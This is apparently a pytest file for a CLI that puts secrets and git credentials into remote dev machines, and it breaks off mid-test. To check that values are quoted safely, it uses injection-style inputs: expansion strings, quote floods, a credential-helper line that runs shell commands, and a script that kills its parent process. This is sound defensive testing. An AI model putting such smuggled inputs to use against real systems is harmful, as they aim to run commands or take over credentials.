"""Init: the keys on their way into a sprite, what is seen of them there, and what is left alone.

The script is run as a sprite runs it, in real bash: by itself in made-up homes, where thousands
of values and hundreds of odd homes can be tried, and through the whole program on the emulator.
"""

from __future__ import annotations

import hashlib
import itertools
import json
import os
import re
import shutil
import signal
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from emulation import Emulator, Fault
from support.configs import KEYS, write
from support.keys import (
    BLOCK,
    CONFIG,
    PAT_LINE,
    SEEN,
    SHOW,
    WAYS,
    Settings,
    answer_of,
    carry,
    data_for,
    failed,
    homes,
    limit_files,
    run_init,
    states_in,
    succeeded,
    tree,
    values_of,
)
from support.program import Thopters, both
from support.runs import shorten
from support.waiting import until
from support.words import nasty_words

import thopters as program

# values


def test_ten_thousand_values_arrive_and_none_is_run(home: Path) -> None:
    carry(home, nasty_words(seed=7, count=10_000))


@pytest.mark.parametrize("size", [1, 100, 4096, 100_000])
def test_long_values_arrive(home: Path, size: int) -> None:
    secrets = {
        f"V{number}": "x'" * (size // 2) + "y" for number in range(10 if size < 10_000 else 2)
    }
    assert succeeded(run_init(home, Settings(secrets))) == []


# names that mean something to the script, to a shell or to git
ODD_NAMES = (
    "n", "s", "h", "env", "values", "names", "digest", "keep", "user", "email", "end", "part",
    "salt", "marks", "stay",
    "load", "limit", "failed", "block", "helper", "real", "new", "way", "seen", "pat", "old_pat",
    "file", "files", "see_all", "REPLY", "OLDPWD", "TMPDIR", "LC_ALL", "LANG", "PS1", "USER",
    "SHELL", "TERM", "TIMEFORMAT", "CDPATH", "GLOBIGNORE", "POSIXLY_CORRECT", "GREP_OPTIONS",
    "HISTFILE", "PWD", "MAIL", "FIGNORE", "TZ", "GIT_AUTHOR_NAME", "GIT_EDITOR", "name", "sum",
)  # fmt: skip


def test_names_that_mean_something_do_no_harm(home: Path) -> None:
    secrets = {name: f"/tmp/value of {name}" for name in ODD_NAMES}
    secrets |= {"GITHUB_PAT": "ghp_1", "LC_ALL": "C.UTF-8", "LANG": "C.UTF-8"}
    for _ in range(2):  # the second time they are set while the script runs
        warnings = succeeded(run_init(home, Settings(secrets, "Ann", "ann@example.org")))
        for warning in warnings:  # the shells have a word of their own in a few
            assert re.fullmatch(
                r"warn (bash|zsh) -\w+ has other values of its own for:"
                r"( (PS1|PWD|OLDPWD|LC_ALL|LANG|TERM|_|SHELL|TIMEFORMAT|HISTFILE))+",
                warning,
            ), warnings
    assert values_of(home, secrets) == [value.encode() for value in secrets.values()]
    assert (home / ".git-credentials").read_bytes() == PAT_LINE % b"ghp_1"


def test_every_name_that_bash_keeps_for_itself_is_refused() -> None:
    kept_if = '(eval "export $v=zz" && [ "$(printenv "$v")" = zz ]) || echo "$v"'
    probe = f"for v in $(compgen -v); do {kept_if}; done"
    done = subprocess.run(
        ["bash", "-c", probe], env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True
    )
    kept = set(done.stdout.split()) - {"PATH"}
    assert {"RANDOM", "UID", "SHELLOPTS"} <= kept
    assert kept <= set(program.SHELL_VARIABLES)


# what is not whole


def test_input_that_is_cut_changes_nothing(home: Path) -> None:
    settings = Settings({"A": "1", "GITHUB_PAT": "ghp_1"}, "Ann", "ann@example.org")
    before = tree(home)
    whole = len(data_for(settings))
    words = [program.INIT_SCRIPT, b"thopters-init", program.SEE_ALL, program.SEE_EACH]
    script = (
        len(program.RemoteCommand([b"bash", b"-c", *words], with_keys=False).stream_script()) + 1
    )
    for size in [*range(0, script, 500), *range(script - 2, script + whole)]:
        done = run_init(home, settings, size=size)
        assert done.returncode, size
        assert program.INIT_PROOF.encode() not in done.stdout
        assert tree(home) == before, size
    succeeded(run_init(home, settings))


def test_a_full_disk_leaves_what_was_there(home: Path) -> None:
    succeeded(run_init(home, Settings({"OLD": "value"})))
    (home / ".profile").write_bytes(b"# mine\n" * 100)
    before = tree(home)
    said = failed(run_init(home, Settings({"A": "x" * 500}), preexec_fn=limit_files(400)))
    assert "File too large" in said
    assert tree(home) == before
    said = failed(run_init(home, Settings({"A": "x"}), preexec_fn=limit_files(600)))
    assert "fail ~/.profile can't be changed" in said
    assert (home / ".profile").read_bytes() == b"# mine\n" * 100
    assert {path.name for path in home.iterdir()} == {name for name in before if "/" not in name}


KILLING = """\
#!/bin/sh
echo >> ~/moved
[ "$(wc -l < ~/moved)" != %d ] || { [ %s ] && /bin/mv "$@"; kill -KILL $PPID; exit; }
exec /bin/mv "$@"
"""


def test_a_kill_at_any_step_leaves_whole_files_and_no_value_that_looks_changed(
    home: Path, tmp_path: Path
) -> None:
    """A step is a file that is put in place; the kill comes before it or behind."""
    old = Settings({"A": "1", "B": "2", "GITHUB_PAT": "ghp_1"}, "Ann", "ann@example.org")
    new = Settings({"A": "one", "B": "2", "GITHUB_PAT": "ghp_2"}, "Ann", "ann@example.org")
    mover, env = tmp_path / "programs" / "mv", home / ".thopters" / "env"
    mover.parent.mkdir()
    succeeded(run_init(home, old))
    before = env.read_bytes()
    succeeded(run_init(home, new))
    after = env.read_bytes()
    for step, is_behind in itertools.product(range(1, 4), ("", "1")):
        (home / "moved").unlink(missing_ok=True)
        succeeded(run_init(home, old))
        mover.write_text(KILLING % (step, is_behind))
        mover.chmod(0o755)
        path = f"{mover.parent}:/usr/local/bin:/usr/bin:/bin"
        done = run_init(home, new, env={"PATH": path})
        assert done.returncode == 128 + signal.SIGKILL, (step, done)
        assert env.read_bytes() in (before, after)
        states = states_in(home, new)
        assert states["B"] == "current" and states["A"] == states["GITHUB_PAT"], states
        assert states["A"] in ("old", "current"), (step, is_behind)
    succeeded(run_init(home, new))
    assert set(states_in(home, new).values()) == {"current"}


# the start-up files


@pytest.mark.parametrize(
    "content",
    [
        BLOCK[:-20],
        BLOCK + b"export A=1\n" + BLOCK,
        BLOCK.replace(b"if ", b"# if "),
        b"# <<< thopters <<<\nx\n# >>> thopters >>>\n",
        b"a\n" + BLOCK.splitlines(True)[0],
        BLOCK.replace(b"\n", b"\r\n"),
        b"x" + BLOCK,
    ],
)
def test_lines_of_ours_in_disorder_are_left_and_named(home: Path, content: bytes) -> None:
    (home / ".bashrc").write_bytes(content)
    said = failed(run_init(home, Settings({"A": "1"})))
    assert "fail ~/.bashrc holds thopters lines in disorder" in said
    assert (home / ".bashrc").read_bytes() == content
    assert (home / ".profile").read_bytes().startswith(BLOCK)  # the others have their turn
    assert (home / ".thopters" / "env").read_bytes() == b"export A='1'\n"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"no newline at the end",
        b"\r\n# from elsewhere\r\n",
        b"nul \0 and \xff\xfe bytes\n\n\n",
        b"#!/bin/bash\n",
        b": thopters\n",
    ],
)
def test_what_else_is_in_a_file_stays_to_the_byte(home: Path, content: bytes) -> None:
    for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
        (home / name).write_bytes(content)
        (home / name).chmod(0o640)
    for _ in range(3):
        run_init(home, Settings({"A": "1"}))
        for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
            assert (home / name).read_bytes() == BLOCK + content
            assert (home / name).stat().st_mode & 0o777 == 0o640


def test_lines_of_ours_may_stand_anywhere(home: Path) -> None:
    content = b"# mine\n" + BLOCK + b"# more\n"
    (home / ".bashrc").write_bytes(content)
    succeeded(run_init(home, Settings({"A": "1"})))
    assert (home / ".bashrc").read_bytes() == content


def test_a_link_stays_one_and_what_it_leads_to_is_changed(home: Path) -> None:
    (home / "dotfiles").mkdir()
    (home / "dotfiles" / "bashrc").write_bytes(b"# mine\n")
    (home / ".bashrc").unlink()
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    succeeded(run_init(home, Settings({"A": "1"})))
    assert (home / ".bashrc").is_symlink()
    assert (home / "dotfiles" / "bashrc").read_bytes() == BLOCK + b"# mine\n"
    assert os.listdir(home / "dotfiles") == ["bashrc"]


def test_what_a_killed_one_has_left_is_cleared_away(home: Path) -> None:
    content = (home / ".bashrc").read_bytes()
    (home / "mine").write_bytes(b"mine\n")
    (home / ".bashrc.thopters-new").symlink_to("mine")
    (home / ".profile.thopters-new").write_bytes(b"half of")
    succeeded(run_init(home, Settings({"A": "1"})))
    assert not list(home.glob(".*.thopters-new"))
    assert (home / "mine").read_bytes() == b"mine\n"
    assert (home / ".bashrc").read_bytes() == BLOCK + content


def test_what_can_not_be_a_start_up_file_is_named(home: Path) -> None:
    (home / ".bashrc").unlink()
    (home / ".bashrc").mkdir()
    (home / ".profile").unlink()
    (home / ".profile").symlink_to("nowhere/profile")
    said = failed(run_init(home, Settings({"A": "1"})))
    assert "fail ~/.bashrc can't be changed" in said
    assert "fail ~/.profile links to nowhere" in said
    assert os.readlink(home / ".profile") == "nowhere/profile"


def as_somebody(home: Path) -> dict[str, Any]:
    """Return how to run as a user whom modes bind, who owns the home."""
    if os.geteuid() != 0:
        return {}
    for path in (home, *home.rglob("*")):
        os.lchown(path, 52000, 52000)
    for folder in home.parents[:3]:
        folder.chmod(0o755)
    return {"user": 52000, "group": 52000, "extra_groups": []}


def test_a_file_that_is_read_only_is_left_and_named(home: Path) -> None:
    content = (home / ".bashrc").read_bytes()
    (home / ".bashrc").chmod(0o444)
    said = failed(run_init(home, Settings({"A": "1"}), **as_somebody(home)))
    assert "fail ~/.bashrc can't be changed" in said
    assert (home / ".bashrc").read_bytes() == content


def test_a_home_that_can_not_be_written_is_said(home: Path) -> None:
    options = as_somebody(home)
    home.chmod(0o555)
    before = tree(home)
    assert "mkdir: " in failed(run_init(home, Settings({"A": "1"}), **options))
    assert tree(home) == before
    home.chmod(0o755)


# hundreds of homes


@pytest.mark.long
def test_odd_homes(tmp_path: Path) -> None:
    homes(tmp_path, range(8))


@pytest.mark.slow
def test_hundreds_of_odd_homes(tmp_path: Path) -> None:
    homes(tmp_path, range(240))


# what is seen in a sprite, by every way in


@pytest.mark.parametrize("bash_profile", [False, True])
def test_every_way_in_sees_the_variables(
    thopters: Thopters, emulator: Emulator, config: Path, console: None, bash_profile: bool
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    if bash_profile:  # bash reads no .profile then
        (sprite.home / ".bash_profile").write_text("# mine\n")
        sprite.machine.own(sprite.home)
    assert thopters("init", "dev").code == 0
    for way, argv in WAYS.items():
        if way.startswith("zsh") and not shutil.which("zsh"):
            continue
        done = thopters("exec", "dev", "--", *argv)
        assert (done.code, done.out) == (0, answer_of(way)), way
    done = thopters("shell", "dev", stdin=SHOW.encode() + b"; exit\n")  # a login terminal
    assert SEEN in done.out, done
    assert not (sprite.home / "ran").exists()


def test_without_init_only_a_shell_of_ones_own_making_sees_anything(
    thopters: Thopters, emulator: Emulator, console: None
) -> None:
    """So that the test above can fail."""
    emulator.add_sprite("dev", status="running")
    assert thopters("exec", "dev", "--", "printenv", "MINE").code == 1
    assert SEEN not in thopters("shell", "dev", stdin=SHOW.encode() + b"; exit\n").out


def test_a_value_that_a_start_up_file_sets_later_is_named(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    with (sprite.home / ".bashrc").open("a") as file:
        file.write("export MINE=other\n")
    with (sprite.home / ".profile").open("a") as file:
        file.write("export OPENAI_API_KEY=x GITHUB_PAT=\n")
    done = thopters("init", "dev", "--json")
    assert done.code == 0
    (report,) = json.loads(done.out)["initialized"]
    assert report["warnings"] == [
        "bash -lc has other values of its own for: OPENAI_API_KEY GITHUB_PAT",
        "bash -ic has other values of its own for: MINE",
    ]
    assert done.err.count("thopters: warning: dev says: bash -") == 2


@pytest.mark.parametrize("line", ["exit 3", "exec true", "kill -9 $$"])
def test_a_shell_that_ends_early_is_named(
    thopters: Thopters, emulator: Emulator, config: Path, line: str
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    (sprite.home / ".bashrc").write_text(f"case $- in *i*) {line};; esac\n")
    done = thopters("init", "dev")
    assert done.code == 0
    assert "it could not be seen which variables bash -ic has" in done.err


# create and init


@both
def test_create_puts_the_keys_in(thopters: Thopters, emulator: Emulator, config: Path) -> None:
    done = thopters("create", "dev", "--json", "--debug")
    assert done.code == 0, done
    made = json.loads(done.out)
    assert made["init"] == {
        "name": "dev",
        "variables": sorted(CONFIG["secrets"]),
        "git": CONFIG["git"],
        "warnings": [],
    }
    home = emulator.sprite("dev").home
    env = home / ".thopters" / "env"
    assert [path.stat().st_mode & 0o777 for path in (env.parent, env)] == [0o700, 0o600]
    credentials = (home / ".git-credentials").read_bytes()
    assert credentials == PAT_LINE % KEYS["GITHUB_PAT"].encode()
    show = thopters("exec", "dev", "--", "git", "config", "--global", "--list").out
    assert show == (
        "user.name=Ann O'Nym\nuser.email=ann@example.org\n"
        "credential.https://github.com.helper=store\n"
    )
    holders = [r for r in emulator.journal if b"canary" in r.head + r.body + r.stdin]
    assert [request.method for request in holders] == ["WS"]
    assert not [r for r in emulator.journal if b"canary" in r.head or len(r.target) > 300]
    assert "canary" not in done.out + done.err
    assert not emulator.journal.oddities


def test_create_no_init_puts_nothing_in(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    done = thopters("create", "dev", "--no-init")
    assert (done.code, "warning" in done.err) == (0, False)
    assert not (emulator.sprite("dev").home / ".thopters").exists()


def test_create_if_missing_puts_the_keys_into_what_exists(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    sprite = emulator.add_sprite("dev")
    assert thopters("create", "dev", "--if-missing", "--no-init").code == 0
    assert [request.method for request in emulator.journal] == ["GET"]
    assert thopters("create", "dev", "--if-missing").code == 0
    assert (sprite.home / ".thopters" / "env").exists()


def test_a_configuration_that_is_not_understood_stops_create_before_it_begins(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    config.write_text("{")
    done = thopters("create", "dev")
    assert (done.code, "is not valid JSON" in done.err) == (1, True)
    assert not len(emulator.journal)


def test_what_is_missing_is_a_warning(thopters: Thopters, emulator: Emulator, config: Path) -> None:
    write(config, {"secrets": {"OPENAI_API_KEY": "sk-1"}, "git": {"user": "Ann"}})
    done = thopters("create", "dev")
    assert done.code == 0
    warnings = re.findall(r"^thopters: warning: (\S+).*is not|are not", done.err, re.M)
    assert len(warnings) == 3
    assert "ANTHROPIC_API_KEY" in done.err
    assert "GITHUB_PAT" in done.err
    home = emulator.sprite("dev").home
    assert (home / ".thopters" / "env").read_text() == "export OPENAI_API_KEY='sk-1'\n"
    assert not (home / ".git-credentials").exists()


@pytest.mark.parametrize("command", ["create", "init"])
def test_n11_keys_that_no_shell_has_read_are_warned_of_by_name(
    thopters: Thopters, emulator: Emulator, config: Path, command: str
) -> None:
    odd = {"ANTHROPIC_API_KEY": '"c4n"', "OPENAI_API_KEY": "sk-${c4n}", "MINE": "${c4n}"}
    fine = {"GITHUB_PAT": "ghp_0123", "OTHER": "x ${c4n}", "JSON": '{"c4n": ""}'}
    write(config, {"secrets": {**odd, **fine}, "git": {"user": "A", "email": "a@example.org"}})
    if command == "init":
        emulator.add_sprite("dev", status="running")
    done = thopters(command, "dev", "--json")
    assert done.code == 0, done
    shown = json.loads(done.out)
    report = shown["init"] if command == "create" else shown["initialized"][0]
    assert [text.split()[0] for text in report["warnings"]] == list(odd)
    assert done.err.count("thopters: warning: ") == len(odd)
    assert "c4n" not in done.out + done.err
    held = values_of(emulator.sprite("dev").home, [*odd, *fine])
    assert [value.decode() for value in held] == [*odd.values(), *fine.values()]


@pytest.mark.parametrize("home", ["", None])
def test_without_a_configuration_create_warns_and_init_takes_nothing_away(
    thopters: Thopters, emulator: Emulator, home: str | None
) -> None:
    env = {} if home is None else {"HOME": home}
    done = thopters("create", "dev", env=env)
    assert (done.code, done.err.count("there is no configuration")) == (0, 1)
    file = emulator.sprite("dev").home / ".thopters" / "env"
    assert file.read_bytes() == b""
    file.write_bytes(b"export FROM_ANOTHER_MACHINE=1\n")
    done = thopters("init", "dev", env=env)
    assert (done.code, done.err.count("there is no configuration")) == (0, 1)
    assert file.read_bytes() == b"export FROM_ANOTHER_MACHINE=1\n"


def test_what_left_the_configuration_leaves_the_sprite(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    home = emulator.add_sprite("dev").home
    (home / ".git-credentials").write_bytes(b"https://me:pw@example.org\n")
    emulator.sprite("dev").machine.own(home)
    assert thopters("init", "dev").code == 0
    others = b"https://me:pw@example.org\n"
    stored = home / ".git-credentials"
    assert stored.read_bytes() == PAT_LINE % KEYS["GITHUB_PAT"].encode() + others
    write(config, {**CONFIG, "secrets": {"GITHUB_PAT": "ghp_new"}})
    assert thopters("init", "dev").code == 0
    assert stored.read_bytes() == PAT_LINE % b"ghp_new" + others
    assert (home / ".thopters" / "env").read_bytes() == b"export GITHUB_PAT='ghp_new'\n"
    write(config, {**CONFIG, "secrets": {}})
    assert thopters("init", "dev").code == 0
    assert stored.read_bytes() == others
    assert (home / ".thopters" / "env").read_bytes() == b""


def test_a_helper_that_answers_before_ours_is_named(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    home = emulator.add_sprite("dev").home
    answer = "!echo username=x; echo password=theirs"
    (home / ".gitconfig").write_text(f'[credential]\n\thelper = "{answer}"\n')
    emulator.sprite("dev").machine.own(home)
    done = thopters("init", "dev")
    assert done.code == 0
    assert "git uses other credentials for github.com than GITHUB_PAT" in done.err


def test_init_of_several_goes_on_and_reports_the_worst(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    emulator.add_sprite("a")
    emulator.add_sprite("c")
    done = thopters("init", "a", "b", "c", "a")
    assert done.code == 3
    variables = ", ".join(sorted(CONFIG["secrets"]))
    who = "git as Ann O'Nym <ann@example.org>"
    assert done.out == f"a: {variables}; {who}\nc: {variables}; {who}\n"
    assert "there is no sprite b" in done.err


@pytest.mark.parametrize("size", [200, 8500, 12_000])
def test_init_that_is_cut_on_its_way_is_no_success(
    thopters: Thopters, emulator: Emulator, config: Path, size: int
) -> None:
    home = emulator.add_sprite("dev", status="running").home
    emulator.fault(Fault("WS */exec", "cut_request", size=size, times=None))
    done = thopters("init", "dev")
    if done.code == 0:  # the cut came behind all that is sent
        assert (home / ".thopters" / "env").exists()
        return
    assert (done.code, done.out) == (1, "")
    assert "thopters init dev" in done.err
    assert not (home / ".thopters" / "env").exists()


def test_n12_a_connection_that_is_cut_before_init_has_answered_is_opened_again(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    home = emulator.add_sprite("dev", status="running").home
    fault = emulator.fault(Fault("WS */exec", "ws", actions=[("drop", None)]))
    done = thopters("init", "dev")
    assert (done.code, fault.times) == (0, 0), done
    assert (home / ".thopters" / "env").exists()


def test_create_whose_init_fails_keeps_the_sprite(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    drop = [("drop", None)]
    fault = emulator.fault(Fault("WS */exec", "ws", actions=drop, after=1, times=None))
    done = thopters("create", "dev")
    fault.times = 0
    assert (done.code, done.out) == (1, "")
    assert "dev was created, but cannot tell whether the keys are in dev" in done.err
    assert "thopters init dev; or remove it: thopters destroy dev" in done.err
    assert "dev" in emulator.sprites
    assert thopters("init", "dev").code == 0


def test_create_that_is_interrupted_in_init_says_how_to_go_on(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    emulator.fault(Fault("WS */exec", "hang", after=1, times=1))
    process = thopters.start("create", "dev")
    emulator.journal.wait(4)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=30)
    assert process.returncode == -signal.SIGINT
    assert b"dev was created, but not all keys may be in it" in err
    assert b"thopters init dev" in err


def made_anew_while_it_starts(emulator: Emulator, process: subprocess.Popen[bytes], ws: int) -> str:
    """Let the command with this number say that the sprite starts, and another take its name."""
    emulator.fault(Fault("WS *", "starting", after=ws))
    until(lambda: len(emulator.journal.requests("WS")) > ws, "it is asked for")
    del emulator.sprites["dev"]
    emulator.add_sprite("dev", status="running").add_checkpoint("")
    _, err = process.communicate(timeout=60)
    assert process.returncode == 1
    assert b"dev was made anew meanwhile: the new sprite was left alone" in err, err
    return err.decode()


def keys_that_were_sent(emulator: Emulator) -> int:
    wrote = b"".join(request.stdin + request.body for request in emulator.journal)
    return sum(wrote.count(value.encode()) for value in CONFIG["secrets"].values())


def test_s19_create_fills_no_sprite_but_the_one_that_it_made(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    """A name is no identity: while it starts, it can be made anew by somebody else."""
    err = made_anew_while_it_starts(emulator, thopters.start("create", "dev"), 0)
    assert "thopters: error: dev was created, but dev was made anew" in err
    assert not keys_that_were_sent(emulator)


# restore


@pytest.mark.parametrize(("ws", "restores"), [(0, 0), (1, 1)], ids=["before", "behind"])
def test_s19_restore_changes_and_fills_no_sprite_but_the_one_that_was_looked_at(
    thopters: Thopters, emulator: Emulator, config: Path, ws: int, restores: int
) -> None:
    """Another sprite's checkpoints have the same ids."""
    assert thopters("create", "dev").code == 0
    emulator.sprite("dev").add_checkpoint("")
    emulator.journal.clear()
    process = thopters.start("restore", "dev", "v1", "--yes")
    err = made_anew_while_it_starts(emulator, process, ws)
    posted = [request.path for request in emulator.journal.requests("POST")]
    assert len([path for path in posted if path.endswith("/restore")]) == restores
    assert ("dev was restored to v1" in err) == bool(restores)
    assert not keys_that_were_sent(emulator)


def test_restore_puts_todays_keys_in(thopters: Thopters, emulator: Emulator, config: Path) -> None:
    assert thopters("create", "dev").code == 0
    assert thopters("checkpoint", "dev").out == "v1\n"
    write(config, {**CONFIG, "secrets": {"GITHUB_PAT": "ghp_new"}})
    assert thopters("init", "dev").code == 0
    done = thopters("restore", "dev", "v1", "--yes", "--json")
    assert done.code == 0, done
    assert json.loads(done.out)["init"]["variables"] == ["GITHUB_PAT"]
    home = emulator.sprite("dev").home
    assert (home / ".thopters" / "env").read_bytes() == b"export GITHUB_PAT='ghp_new'\n"
    assert (home / ".git-credentials").read_bytes() == PAT_LINE % b"ghp_new"


@pytest.mark.parametrize("content", [b"keys", b"", b"export GITHUB_PAT='theirs'\n", None])
@pytest.mark.parametrize("when", ["before", "at the checkpoint"])
def test_s1_a_sprite_that_does_not_know_our_keys_gets_none_by_a_restore(
    thopters: Thopters, emulator: Emulator, config: Path, content: bytes | None, when: str
) -> None:
    """A file of that name is made by whoever runs there, or holds a team mate's keys.

    None stands for a directory.
    """
    sprite = emulator.add_sprite("dev", status="running")

    def make() -> None:
        env = sprite.home / ".thopters" / "env"
        if content is None:
            env.mkdir(parents=True)
        else:
            env.parent.mkdir()
            env.write_bytes(content)

    if when == "at the checkpoint":
        make()
    sprite.add_checkpoint("")
    if when == "before":
        make()
    sprite.machine.own(sprite.home)
    done = thopters("restore", "dev", "v1", "--yes", "--json")
    assert (done.code, json.loads(done.out)["init"]) == (0, None), done
    wrote = b"".join(request.stdin + request.body for request in emulator.journal)
    for value in CONFIG["secrets"].values():
        assert value.encode() not in wrote
    if content and when == "at the checkpoint":
        assert "the keys in dev are not those of your configuration" in done.err
        assert "if it is to have yours: thopters init dev" in done.err


def test_s7_a_restore_that_had_to_wait_says_that_its_backup_is_old(
    thopters: Thopters, emulator: Emulator
) -> None:
    shorten(thopters, OLD_BACKUP_S=0.5)
    emulator.add_sprite("dev", status="running").add_checkpoint("")
    for wait, says in ((0, False), (1, True)):
        busy = b'{"error": "rate", "retry_after_seconds": %d}' % wait
        emulator.fault(Fault("POST */restore", "status", status=429, body=busy))
        done = thopters("restore", "dev", "v1", "--yes")
        assert done.code == 0, done
        assert ("in that time is not in checkpoint v" in done.err) == says, done


def test_restore_puts_no_keys_where_none_were(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    sprite.add_checkpoint("")
    done = thopters("restore", "dev", "v1", "--yes", "--json")
    assert (done.code, json.loads(done.out)["init"]) == (0, None)
    assert not (sprite.home / ".thopters").exists()


def test_restore_says_when_the_keys_stay_old(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    assert thopters("create", "dev").code == 0
    assert thopters("checkpoint", "dev").code == 0
    config.unlink()
    done = thopters("restore", "dev", "v1", "--yes")
    assert done.code == 0
    assert "the keys in dev are those of v1" in done.err


def test_restore_does_not_call_old_what_is_empty(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    config.unlink()
    assert thopters("create", "dev").code == 0
    assert (emulator.sprite("dev").home / ".thopters" / "env").read_bytes() == b""
    assert thopters("checkpoint", "dev").code == 0
    done = thopters("restore", "dev", "v1", "--yes")
    assert (done.code, "are those of" in done.err) == (0, False), done


@pytest.mark.parametrize(
    ("config", "says"),
    [
        (None, "there is no configuration, so what is in it stays"),
        ({}, "no variables; no git identity"),
        ({"git": {"email": "a@b.c"}}, "no variables; git as - <a@b.c>"),
    ],
)
def test_what_stays_is_said_to_stay_and_nothing_else(
    thopters: Thopters, emulator: Emulator, config: dict[str, Any] | None, says: str
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    path = thopters.home / ".sprite-thopters" / "config.json"
    write(path, {"secrets": {"KEY": "canary-0123456789"}})
    assert thopters("init", "dev").code == 0
    path.unlink()
    if config is not None:
        write(path, config)
    done = thopters("init", "dev")
    assert (done.code, done.out) == (0, f"dev: {says}\n")
    kept = b"canary" in (sprite.home / ".thopters" / "env").read_bytes()
    assert kept == (config is None)


def test_restore_whose_init_fails_says_that_it_is_done(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    (sprite.home / ".bashrc").write_bytes(BLOCK[:-20])
    sprite.add_checkpoint("")
    (sprite.home / ".bashrc").write_bytes(b"")
    sprite.machine.own(sprite.home)
    assert thopters("init", "dev").code == 0
    done = thopters("restore", "dev", "v1", "--yes")
    assert (done.code, done.out.startswith("restored dev to v1 in ")) == (1, True)
    assert "undo it: thopters restore dev v2" in done.err
    assert "cannot put all keys into dev: ~/.bashrc holds" in done.err
    assert "dev was restored to v1 (checkpoint v2 holds the state before), but " in done.err
    assert (sprite.home / ".bashrc").read_bytes() == BLOCK[:-20]


def test_restore_puts_todays_keys_in_where_only_the_checkpoint_had_some(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    assert thopters("create", "dev").code == 0
    assert thopters("checkpoint", "dev").code == 0
    assert thopters("exec", "dev", "--", "rm", "-rf", ".thopters").code == 0
    assert thopters("restore", "dev", "v1", "--yes").code == 0
    mine = thopters("exec", "dev", "--", "printenv", "MINE").out
    assert mine == CONFIG["secrets"]["MINE"] + "\n"
    assert thopters("exec", "dev", "--", "rm", "-rf", ".thopters").code == 0
    write(config, {**CONFIG, "secrets": {"MINE": "new"}})
    assert thopters("restore", "dev", "v1", "--yes").code == 0
    assert thopters("exec", "dev", "--", "printenv", "MINE").out == "new\n"


def test_a_broken_configuration_stops_restore_before_it_begins(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    emulator.add_sprite("dev", status="running").add_checkpoint("")
    config.write_text("{")
    done = thopters("restore", "dev", "v1", "--yes")
    assert (done.code, "is not valid JSON" in done.err) == (1, True)
    assert not len(emulator.journal)


# together, in the background, and seen by others


def test_inits_at_the_same_time_take_turns(home: Path) -> None:
    content = b"# mine\n" * 1000
    settings = Settings({"A": "1", "GITHUB_PAT": "ghp_1"}, "Ann", "ann@example.org")
    for _ in range(5):
        for name in (".bashrc", ".profile", ".bash_profile"):
            (home / name).write_bytes(content)
        with ThreadPoolExecutor(4) as pool:
            for done in pool.map(lambda _: run_init(home, settings), range(4)):
                succeeded(done)
        for name in (".bashrc", ".profile", ".bash_profile"):
            assert (home / name).read_bytes() == BLOCK + content


def test_files_of_other_names_are_left_alone(home: Path) -> None:
    (home / "precious").write_bytes(b"precious\n")
    (home / ".bashrc.thopters").symlink_to("precious")
    succeeded(run_init(home, Settings({"A": "1"})))
    assert (home / "precious").read_bytes() == b"precious\n"
    assert not (home / ".bashrc").is_symlink()


@pytest.mark.parametrize("line", ["sleep 60 &", "sleep 60 > /dev/null 2>&1 &", "(sleep 60 &)"])
def test_what_a_start_up_file_leaves_running_is_not_waited_for(home: Path, line: str) -> None:
    (home / ".bashrc").write_text(line + "\n")
    (home / ".profile").write_text(line + "\n")
    began = time.monotonic()
    assert succeeded(run_init(home, Settings({"A": "1"}))) == []
    assert time.monotonic() - began < 50


def test_a_start_up_file_that_hangs_is_named(home: Path) -> None:
    (home / ".bashrc").write_text("case $- in *i*) sleep 60;; esac\n")
    warnings = succeeded(run_init(home, Settings({"A": "1"})))
    assert warnings[0] == "warn the start-up files of bash -ic take longer than 5 s"


@pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
def test_no_value_is_ever_on_a_command_line(home: Path, tmp_path: Path) -> None:
    log = tmp_path / "calls"
    secrets = {"A": "canary-a", "USER": "canary-u", "GITHUB_PAT": "canary-p"}
    with (home / ".bashrc").open("a") as file:
        file.write("export A=other\n")  # so that the values are compared one by one
    trace = ["strace", "-f", "-qq", "-s", "100000", "-e", "trace=execve", "-o", str(log)]
    for _ in range(2):
        run_init(home, Settings(secrets), before=trace)
        calls = re.sub(r"\], 0x[0-9a-f]+ /\* \d+ vars \*/", "]", log.read_text())
        assert "sha256sum" in calls
        assert "canary" not in calls
        for value in secrets.values():
            assert hashlib.sha256(value.encode() + b"\0").hexdigest() not in calls


# what git has


HELPERS = {
    "no other helper": "",
    "a helper that answers": '[credential]\n\thelper = "!echo username=me; echo password=x"\n',
    "a helper in place of the store": (
        '[credential "https://github.com"]\n\thelper =\n'
        '\thelper = "!echo username=me; echo password=x"\n'
    ),
}


@pytest.mark.parametrize("helpers", HELPERS)
@pytest.mark.parametrize("lost", ["nothing", "env"])
def test_a_pat_that_left_is_taken_out_whoever_answers_git(
    home: Path, helpers: str, lost: str
) -> None:
    stored = home / ".git-credentials"
    other = "https://me:theirs@example.org\n"
    stored.write_text(other)
    stored.chmod(0o600)
